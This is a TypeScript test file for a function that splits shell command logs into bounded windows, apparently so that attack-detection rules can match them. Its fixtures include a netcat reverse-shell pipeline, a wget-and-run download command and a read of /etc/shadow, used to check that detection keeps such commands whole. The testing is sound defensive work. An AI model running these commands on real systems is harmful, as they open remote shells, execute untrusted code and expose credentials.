import assert from 'node:assert/strict'
import {describe, it} from 'node:test'

import {splitSimpleCommands} from '../../src/logs/simple-commands.js'
import {type MatchWindows, matchWindows} from '../../src/ttp/match-windows.js'

const CAP = 4096

/**
 * Windows start in order, are at most `cap` long and cover no character more than six times; every run of
 * whole simple commands spanning at most cap / 2 lies whole in one.
 */
function assertWellFormed(text: string, result: MatchWindows, cap = CAP): void {
  let previousStart = -1
  let total = 0
  for (const {end, start} of result.windows) {
    assert.ok(start > previousStart, 'in order')
    assert.ok(end > start && end - start <= cap, `at most ${cap} characters, got ${end - start}`)
    previousStart = start
    total += end - start
  }

  assert.ok(total <= 6 * text.length, `${total} characters in windows for ${text.length}`)
  const commands = splitSimpleCommands(text).commands
  // A window holding the longest run that starts at command i holds every shorter run starting there
  // (same start, earlier end), so checking that one run per start checks them all; its last command
  // only moves forward as i does.
  let w = 0
  let j = 0
  for (let i = 0; i < commands.length; i++) {
    while (w + 1 < result.windows.length && result.windows[w + 1].start <= commands[i].start) w++
    j = Math.max(j, i)
    while (j + 1 < commands.length && commands[j + 1].end - commands[i].start <= cap / 2) j++
    const {end, start} = {end: commands[j].end, start: commands[i].start}
    if (end - start > cap / 2) continue // command i alone spans more than half the cap: no run to keep whole
    const inside = result.windows.slice(Math.max(0, w - 6), w + 1).some((x) => x.start <= start && end <= x.end)
    assert.ok(inside, `commands ${i}..${j} (${start}..${end}) lie whole in a window`)
  }
}

describe('matchWindows', () => {
  it('leaves a text of at most the cap whole, as rules always saw it', () => {
    const text = 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f'
    assert.deepEqual(matchWindows(text, CAP), {cutCommands: 0, simpleCommands: 0, splitterExamined: 0, unexamined: 0, windows: [{end: text.length, start: 0}]})
    assert.deepEqual(matchWindows('x'.repeat(CAP), CAP).windows, [{end: CAP, start: 0}])
  })

  it('cuts a simple command longer than the cap to the cap, and goes on with the next one', () => {
    const payload = 'wget http://203.0.113.9/x.sh; sh x.sh'
    const text = `: ${'A'.repeat(4100)}; ${payload}`
    const result = matchWindows(text, CAP)
    assert.deepEqual(result.windows, [{end: CAP, start: 0}, {end: text.length, start: text.length - payload.length}])
    assert.equal(result.cutCommands, 1)
    assert.equal(result.unexamined, 4102 - CAP)
    assertWellFormed(text, result)
  })

  it('packs whole simple commands, so padding with short commands cuts nothing', () => {
    const text = `${'true;'.repeat(1000)}wget http://203.0.113.9/x.sh; cat /etc/shadow`
    const result = matchWindows(text, CAP)
    assert.equal(result.cutCommands, 0)
    assert.equal(result.unexamined, 0)
    const last = result.windows.at(-1)
    assert.ok(last)
    assert.ok(text.slice(last.start, last.end).endsWith('wget http://203.0.113.9/x.sh; cat /etc/shadow'))
    assertWellFormed(text, result)
  })

  it('keeps commands spanning up to half the cap together, wherever the padding puts the boundaries', () => {
    const pipeline = 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f'
    for (let pad = 3950; pad < 4150; pad++) {
      const text = `: ${'A'.repeat(pad - 2)};${pipeline}`
      const result = matchWindows(text, CAP)
      assert.ok(result.windows.some(({end, start}) => text.slice(start, end).includes(pipeline)), `pad ${pad}`)
      assertWellFormed(text, result)
    }
  })

  it('never cuts a surrogate pair', () => {
    const text = `: ${'A'.repeat(CAP - 3)}😀😀; id`
    const [first] = matchWindows(text, CAP).windows
    assert.equal(first.end, CAP - 1)
  })

  it('bounds the work on hostile texts by their length: windows, characters and simple commands counted', () => {
    const mb = 1024 * 1024
    const hostile = [
      ';'.repeat(mb), 'a;'.repeat(mb / 2), 'a|'.repeat(mb / 2), '$('.repeat(mb / 2), `'${';'.repeat(mb)}`, '\\;'.repeat(mb / 2),
      `${'$(id '.repeat(mb / 10)}${')'.repeat(mb / 10)}`, `a; ${'b|'.repeat(2040)}`.repeat(200), `${'x'.repeat(5000)};`.repeat(200),
      // a long command after short ones: windows that cannot reach it are skipped
      `${'a;'.repeat(1500)}${'x'.repeat(CAP - 10)};`.repeat(40), `a; b|${'x'.repeat(CAP - 2)};`.repeat(200),
      `${'x'.repeat(CAP / 2 + 1)};${'y'.repeat(CAP / 2)};`.repeat(100), `${'a;'.repeat(3000)}${'x'.repeat(CAP + 1)};`.repeat(20),
    ]
    for (const text of hostile) {
      const result = matchWindows(text, CAP)
      assert.equal(result.splitterExamined, text.length)
      assert.ok(result.simpleCommands <= text.length)
      assert.ok(result.windows.length <= (5 * text.length) / CAP + 2, `${result.windows.length} windows for ${text.length} characters`)
      assertWellFormed(text, result)
    }
  })

  it('keeps runs of up to half the cap together on random texts', () => {
    let state = 7
    const rand = (n: number): number => ((state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0) % n)
    const pieces = ['a', 'id', ';', '|', ' ', '&&', "'", '"', '$(', ')', '\\', 'x'.repeat(300), 'y'.repeat(3000), 'z'.repeat(5000), '\n']
    for (let round = 0; round < 30; round++) {
      let text = ''
      while (text.length < 30_000) text += pieces[rand(pieces.length)]
      for (const cap of [64, 500, CAP]) assertWellFormed(text, matchWindows(text, cap), cap)
    }
  })

  it('refuses a window size that is not an integer above 1', () => {
    assert.throws(() => matchWindows('x', 0), /expected the window size to be an integer above 1, got 0/)
  })
})
